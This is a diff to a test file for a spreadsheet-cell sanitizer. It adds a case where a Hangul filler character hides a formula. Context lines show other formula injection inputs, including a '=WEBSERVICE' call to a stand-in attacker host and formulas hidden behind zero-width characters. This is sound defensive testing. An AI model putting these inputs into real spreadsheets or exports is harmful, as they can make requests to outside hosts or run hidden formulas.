@@ -10,6 +10,7 @@ describe('oneCell', () => {
     ['half a character', 'a\ud800', 'a\ufffd'],
     ['a formula', '=WEBSERVICE("https://evil.example")', '\'=WEBSERVICE("https://evil.example")'],
     ['a formula behind what is not seen', '\u200b\t =1', "'  =1"],
+    ['a formula behind what no font shows', '\u3164=1', "' =1"],
     ['a sum, a difference and a call', '+1', "'+1"],
     ['a difference', '-1', "'-1"],
     ['a call', '@SUM(A1)', "'@SUM(A1)"],
